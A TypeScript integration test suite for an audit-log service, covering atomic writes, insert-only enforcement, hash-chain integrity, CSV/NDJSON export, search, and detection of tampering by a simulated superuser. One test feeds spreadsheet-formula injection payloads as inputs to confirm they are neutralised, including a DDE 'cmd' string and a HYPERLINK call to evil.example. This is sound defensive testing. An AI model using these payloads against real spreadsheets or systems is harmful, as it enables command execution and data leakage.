import { Client } from 'pg';
import request from 'supertest';
import type { AuditEventResponse, AuditVerifyResponse, Page, SignedHeadResponse } from '@tessera/contracts';
import { AuditHeadService } from '../src/audit/audit-head.service';
import { ApiClient, createEnrolledStaff, signIn, startTestApp, type TestApp } from './harness';

const count = async (t: TestApp, where = 'true', params: unknown[] = []) =>
  (await t.sql<{ n: number }>(`SELECT count(*)::int AS n FROM audit_event WHERE ${where}`, params))[0]!.n;

/** As the database superuser, with ordinary triggers off for this one connection (what an attacker with DBA rights can do). */
async function bypassTriggers(t: TestApp, sql: string, params: unknown[] = []): Promise<number> {
  const c = new Client({ connectionString: t.databaseUrl });
  await c.connect();
  try {
    await c.query('SET session_replication_role = replica');
    return (await c.query(sql, params)).rowCount ?? 0;
  } finally {
    await c.end();
  }
}

/** The body as text whatever the content type (supertest does not buffer application/x-ndjson). */
function download(t: TestApp, client: ApiClient, path: string) {
  return request(t.http).get(path)
    .set('Cookie', `tessera_session=${client.cookie('tessera_session')}; XSRF-TOKEN=${client.cookie('XSRF-TOKEN')}`)
    .buffer(true).parse((res, done) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => done(null, text));
    });
}

/** RFC 4180 records (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && ch === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

async function signedInAs(t: TestApp, username: string, roles: Parameters<typeof createEnrolledStaff>[2]) {
  return (await signIn(t, await createEnrolledStaff(t, username, roles))).client;
}

describe('audit log: atomicity, immutability, concurrency, export and search', () => {
  let t: TestApp;
  let admin: ApiClient;
  let auditor: ApiClient;
  beforeAll(async () => {
    t = await startTestApp();
    admin = await signedInAs(t, 'audit.admin', ['staff_admin']);
    auditor = await signedInAs(t, 'audit.auditor', ['auditor']);
  });
  afterAll(() => t.close());

  const newStaff = (username: string) => ({ username, displayName: `Person ${username}`, email: `${username}@example.org`, roles: ['records_officer'] });

  it('commits each audited change with its entry, and neither when one of them fails', async () => {
    const created0 = await count(t, `action = 'staff.created'`);
    const ok = await admin.post('/api/v1/staff', newStaff('atomic.one'));
    expect(ok.status).toBe(201);
    const rows = await t.sql<{ target_id: string; actor_username: string; details: { username: string } }>(
      `SELECT target_id, actor_username, details FROM audit_event WHERE action = 'staff.created' ORDER BY seq DESC`,
    );
    expect(rows).toHaveLength(created0 + 1);
    expect(rows[0]).toMatchObject({ target_id: ok.body.staff.id, actor_username: 'audit.admin', details: { username: 'atomic.one' } });

    const dup = await admin.post('/api/v1/staff', newStaff('atomic.one'));
    expect(dup.status).toBe(409);
    expect(await count(t, `action = 'staff.created'`)).toBe(created0 + 1);

    // the audit insert fails: the change it records must not be committed either
    await t.sql(`CREATE FUNCTION test_refuse_audit() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN IF NEW.action IN ('staff.created', 'staff.disabled') THEN RAISE EXCEPTION 'injected audit failure'; END IF; RETURN NEW; END $$`);
    await t.sql(`CREATE TRIGGER test_refuse_audit BEFORE INSERT ON audit_event FOR EACH ROW EXECUTE FUNCTION test_refuse_audit()`);
    try {
      const failed = await admin.post('/api/v1/staff', newStaff('atomic.two'));
      expect(failed.status).toBe(500);
      expect(failed.text).not.toMatch(/injected|QueryFailedError|INSERT INTO|audit_event|\bat \S+ \(/);
      expect(await t.sql(`SELECT 1 FROM staff WHERE username = 'atomic.two'`)).toHaveLength(0);
      const disabled = await admin.post(`/api/v1/staff/${ok.body.staff.id}/disable`, { reason: 'left' });
      expect(disabled.status).toBe(500);
      const [s] = await t.sql<{ status: string }>(`SELECT status FROM staff WHERE id = $1`, [ok.body.staff.id]);
      expect(s!.status).toBe('active');
    } finally {
      await t.sql('DROP TRIGGER test_refuse_audit ON audit_event');
      await t.sql('DROP FUNCTION test_refuse_audit()');
    }
    expect(await count(t, `action IN ('staff.created', 'staff.disabled') AND target_id = $1`, [ok.body.staff.id])).toBe(1);
  });

  it('is insert-only in the database: UPDATE, DELETE and TRUNCATE are refused', async () => {
    const [before] = await t.sql<{ hash: string; reason: string | null }>('SELECT hash, reason FROM audit_event WHERE seq = 1');
    await expect(t.sql(`UPDATE audit_event SET reason = 'rewritten' WHERE seq = 1`)).rejects.toThrow(/insert-only/);
    await expect(t.sql('DELETE FROM audit_event WHERE seq = 1')).rejects.toThrow(/insert-only/);
    await expect(t.sql('TRUNCATE audit_event')).rejects.toThrow(/insert-only/);
    const [after] = await t.sql<{ hash: string; reason: string | null }>('SELECT hash, reason FROM audit_event WHERE seq = 1');
    expect(after).toEqual(before);
  });

  it('never forks or skips the chain under concurrent writers', async () => {
    const searched0 = await count(t, `action = 'audit.searched'`);
    const created0 = await count(t, `action = 'staff.created'`);
    const results = await Promise.all([
      ...Array.from({ length: 25 }, () => auditor.get('/api/v1/audit-events?pageSize=1')),
      ...Array.from({ length: 15 }, (_, i) => admin.post('/api/v1/staff', newStaff(`burst.${i}`))),
    ]);
    expect(results.map((r) => r.status).sort()).toEqual([...Array(25).fill(200), ...Array(15).fill(201)].sort());
    expect(await count(t, `action = 'audit.searched'`)).toBe(searched0 + 25);
    expect(await count(t, `action = 'staff.created'`)).toBe(created0 + 15);

    const [shape] = await t.sql<{ min: string; max: string; n: string; prevs: string; links: string }>(`
      SELECT min(seq)::text AS min, max(seq)::text AS max, count(*)::text AS n, count(DISTINCT prev_hash)::text AS prevs,
             (SELECT count(*) FROM (SELECT prev_hash, lag(hash) OVER (ORDER BY seq) AS before FROM audit_event) x
               WHERE x.before IS NOT NULL AND x.before <> x.prev_hash)::text AS links
        FROM audit_event`);
    expect(shape).toEqual({ min: '1', max: shape!.n, n: shape!.n, prevs: shape!.n, links: '0' });
    expect(Number(shape!.n)).toBeGreaterThan(45);
    const verify = await auditor.post('/api/v1/audit-events/verify');
    expect(verify.status).toBe(200);
    expect(verify.body).toMatchObject({ intact: true, firstBroken: null, checked: Number(shape!.n), head: { seq: shape!.max } });
  });

  it('exports CSV and NDJSON as attachments, one record per row, filtered like the search', async () => {
    const rowsBefore = await count(t);
    const csv = await download(t, auditor, '/api/v1/audit-events/export?format=csv');
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="tessera-audit-[\w-]+\.csv"$/);
    const records = parseCsv(csv.body as string);
    expect(records[0]!.join(',')).toBe('seq,occurred_at,actor_id,actor_username,actor_roles,action,target_type,target_id,outcome,'
      + 'reason,request_id,client_address,user_agent,details,prev_hash,hash');
    expect(records).toHaveLength(1 + rowsBefore + 1); // header, the rows, and the export's own audit.exported
    expect(records.every((r) => r.length === 16)).toBe(true);
    const seqs = records.slice(1).map((r) => Number(r[0]));
    expect([...seqs].sort((a, b) => a - b)).toEqual(Array.from({ length: rowsBefore + 1 }, (_, i) => i + 1));

    const ndjson = await download(t, auditor, '/api/v1/audit-events/export?format=ndjson');
    expect(ndjson.status).toBe(200);
    expect(ndjson.headers['content-disposition']).toMatch(/^attachment; filename=".+\.ndjson"$/);
    const lines = (ndjson.body as string).split('\n').filter((l) => l !== '');
    const events = lines.map((l) => JSON.parse(l) as AuditEventResponse);
    expect(events).toHaveLength(rowsBefore + 2);
    expect(events.filter((e) => e.action === 'audit.exported')).toHaveLength(2);
    expect(events.every((e) => /^[0-9a-f]{64}$/.test(e.hash) && typeof e.details === 'object')).toBe(true);

    const signedIn = await count(t, `action = 'auth.signed_in'`);
    const filtered = await download(t, auditor, '/api/v1/audit-events/export?format=ndjson&action=auth.signed_in');
    const only = (filtered.body as string).split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as AuditEventResponse);
    expect(signedIn).toBeGreaterThanOrEqual(2);
    expect(only).toHaveLength(signedIn);
    expect(new Set(only.map((e) => e.action))).toEqual(new Set(['auth.signed_in']));
    expect((await download(t, auditor, '/api/v1/audit-events/export?format=xml')).status).toBe(400);
  });

  it('neutralises spreadsheet formulas in every CSV cell', async () => {
    await request(t.http).post('/api/v1/auth/sign-in').set('Cookie', 'XSRF-TOKEN=x').set('X-XSRF-TOKEN', 'x')
      .set('User-Agent', '@SUM(1+1)*cmd|" /C calc"!A0').send({ username: '=HYPERLINK("http://evil.example/?x")', password: 'wrong password' });
    const target = (await admin.post('/api/v1/staff', newStaff('formula.target'))).body.staff.id as string;
    expect((await admin.post(`/api/v1/staff/${target}/disable`, { reason: '+1-2=cmd' })).status).toBe(200);
    const res = await download(t, auditor, '/api/v1/audit-events/export?format=csv');
    const records = parseCsv(res.body as string).slice(1);
    const failed = records.find((r) => r[5] === 'auth.sign_in_failed' && r[3]!.includes('hyperlink'))!;
    expect(failed[3]).toBe(`'=hyperlink("http://evil.example/?x")`);
    expect(failed[12]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(records.find((r) => r[5] === 'staff.disabled' && r[7] === target)![9]).toBe(`'+1-2=cmd`);
    const dangerous = records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous).toEqual([]);
  });

  it('exports, lists and signs in chain order (seq as a number, not as text)', async () => {
    const total = await count(t);
    expect(total).toBeGreaterThan(20);
    const ndjson = await download(t, auditor, '/api/v1/audit-events/export?format=ndjson');
    const seqs = (ndjson.body as string).split('\n').filter((l) => l !== '').map((l) => Number((JSON.parse(l) as AuditEventResponse).seq));
    expect(seqs).toEqual(Array.from({ length: total + 1 }, (_, i) => i + 1));

    const page = (await auditor.get('/api/v1/audit-events?page=1&pageSize=5')).body as Page<AuditEventResponse>;
    expect(page).toMatchObject({ total: total + 1, page: 1, pageSize: 5 });
    expect(page.items.map((e) => Number(e.seq))).toEqual([total - 4, total - 5, total - 6, total - 7, total - 8]);

    const [head] = await t.sql<{ seq: string; hash: string }>('SELECT seq::text AS seq, hash FROM audit_event ORDER BY audit_event.seq DESC LIMIT 1');
    const signed = await auditor.post('/api/v1/audit-events/sign-head');
    expect(signed.status).toBe(200);
    expect(signed.body).toMatchObject({ seq: head!.seq, hash: head!.hash });
  });

  it('sorts the search by any field, ties broken by seq', async () => {
    const oracle = await t.sql<{ seq: string }>('SELECT seq::text AS seq FROM audit_event ORDER BY action ASC, audit_event.seq ASC LIMIT 60');
    const page = (await auditor.get('/api/v1/audit-events?sort=action&order=asc&pageSize=60')).body as Page<AuditEventResponse>;
    expect(page.items.map((e) => e.seq)).toEqual(oracle.map((r) => r.seq));
    const actors = await t.sql<{ seq: string }>('SELECT seq::text AS seq FROM audit_event ORDER BY lower(actor_username) DESC, audit_event.seq DESC LIMIT 500');
    const byActor = (await auditor.get('/api/v1/audit-events?sort=actor&order=desc&pageSize=500')).body as Page<AuditEventResponse>;
    expect(byActor.items.map((e) => e.seq)).toEqual(actors.map((r) => r.seq));
  });

  it('filters the search by actor, outcome and time; refuses an oversized page', async () => {
    await auditor.get('/api/v1/staff'); // a denied row to filter on
    let page = (await auditor.get('/api/v1/audit-events?actor=AUDIT.ADMIN&pageSize=500')).body as Page<AuditEventResponse>;
    expect(page.total).toBe(await count(t, `lower(actor_username) = 'audit.admin'`));
    expect(page.total).toBeGreaterThan(3);
    expect(new Set(page.items.map((e) => e.actorUsername))).toEqual(new Set(['audit.admin']));

    page = (await auditor.get('/api/v1/audit-events?outcome=denied&pageSize=500')).body;
    expect(page.total).toBe(await count(t, `outcome = 'denied'`));
    expect(page.total).toBeGreaterThan(0);
    expect(page.items.every((e) => e.outcome === 'denied')).toBe(true);

    const total = await count(t);
    const [mid] = await t.sql<{ at: string }>(
      `SELECT to_char(occurred_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"') AS at FROM audit_event WHERE seq = $1`, [Math.floor(total / 2)]);
    const from = (await auditor.get(`/api/v1/audit-events?from=${mid!.at}&pageSize=500`)).body as Page<AuditEventResponse>;
    const to = (await auditor.get(`/api/v1/audit-events?to=${mid!.at}&pageSize=500`)).body as Page<AuditEventResponse>;
    expect(from.items.every((e) => e.occurredAt >= mid!.at) && to.items.every((e) => e.occurredAt < mid!.at)).toBe(true);
    expect(to.total).toBe(await count(t, 'occurred_at < $1::timestamptz', [mid!.at]));
    expect(to.total).toBeGreaterThan(0);
    expect(from.total + to.total).toBe(total);

    const res = await auditor.get('/api/v1/audit-events?pageSize=1000');
    expect(res.status).toBe(400);
    expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
    expect(res.body.errors).toEqual([expect.objectContaining({ field: 'pageSize' })]);
  });
});

describe('audit log: tampering and truncation are detected', () => {
  let t: TestApp;
  let auditor: ApiClient;
  beforeEach(async () => {
    t = await startTestApp();
    auditor = await signedInAs(t, 'tamper.auditor', ['auditor']);
    // a short log (under 10 entries): these checks are about tampering, not about ordering many entries
    for (let i = 0; i < 3; i++) expect((await auditor.get('/api/v1/audit-events')).status).toBe(200);
  });
  afterEach(() => t.close());

  it('reports the first altered entry, through the API and the command-line check', async () => {
    const verify = async () => (await auditor.post('/api/v1/audit-events/verify')).body as AuditVerifyResponse;
    expect((await verify()).intact).toBe(true);
    const n = await count(t);
    const middle = Math.floor(n / 2);
    expect(await bypassTriggers(t, `UPDATE audit_event SET details = details || '{"total": 0}', reason = 'nothing to see' WHERE seq = $1`, [middle])).toBe(1);

    const api = await verify();
    expect(api).toMatchObject({ intact: false, firstBroken: { seq: String(middle), reason: expect.stringMatching(/altered/) } });
    const cli = await t.app.get(AuditHeadService).verify();
    expect(cli.intact).toBe(false);
    expect(cli.firstBroken?.seq).toBe(String(middle));
    const [last] = await t.sql<{ action: string; outcome: string }>('SELECT action, outcome FROM audit_event ORDER BY seq DESC LIMIT 1');
    expect(last).toEqual({ action: 'audit.verified', outcome: 'failed' });

    // a removed entry earlier in the chain is reported first, as a gap
    expect(await bypassTriggers(t, 'DELETE FROM audit_event WHERE seq = $1', [middle - 1])).toBe(1);
    expect((await verify()).firstBroken).toEqual({ seq: String(middle - 1), reason: expect.stringMatching(/missing/) });
  });

  it('reports rows deleted from the end against the signed head, though the rest of the chain holds', async () => {
    const signed = await auditor.post('/api/v1/audit-events/sign-head');
    expect(signed.status).toBe(200);
    const head = signed.body as SignedHeadResponse;
    const [stored] = await t.sql<{ hash: string }>('SELECT hash FROM audit_event WHERE seq = $1', [head.seq]);
    expect(head.hash).toBe(stored!.hash);
    let v = (await auditor.post('/api/v1/audit-events/verify')).body as AuditVerifyResponse;
    expect(v).toMatchObject({ intact: true, signedHeads: { checked: 1, latest: { seq: head.seq, status: 'ok' }, failures: [] } });

    const keep = Number(head.seq) - 3;
    expect(await bypassTriggers(t, 'DELETE FROM audit_event WHERE seq > $1', [keep])).toBeGreaterThanOrEqual(4);
    v = (await auditor.post('/api/v1/audit-events/verify')).body as AuditVerifyResponse;
    expect(v.firstBroken).toBeNull();
    expect(v.checked).toBe(keep);
    expect(v.intact).toBe(false);
    expect(v.signedHeads.failures).toEqual([expect.objectContaining({ seq: head.seq, status: 'missing_rows' })]);
    expect((await t.app.get(AuditHeadService).verify()).intact).toBe(false);
  });

  it('exports every row of a log larger than one read batch, once and in order', async () => {
    const n = await count(t);
    // filler rows (as a superuser may insert them; the chain is not the point here)
    await t.sql(`INSERT INTO audit_event (seq, occurred_at, action, outcome, prev_hash, hash)
      SELECT g, now(), 'audit.searched', 'success', 'filler', md5(g::text) FROM generate_series($1::bigint, $2::bigint) g`, [n + 1, n + 4500]);
    const res = await download(t, auditor, '/api/v1/audit-events/export?format=ndjson');
    expect(res.status).toBe(200);
    const seqs = (res.body as string).split('\n').filter((l) => l !== '').map((l) => Number((JSON.parse(l) as AuditEventResponse).seq));
    expect(seqs.length).toBe(n + 4501);
    expect(seqs).toEqual(Array.from({ length: n + 4501 }, (_, i) => i + 1));
  });
});
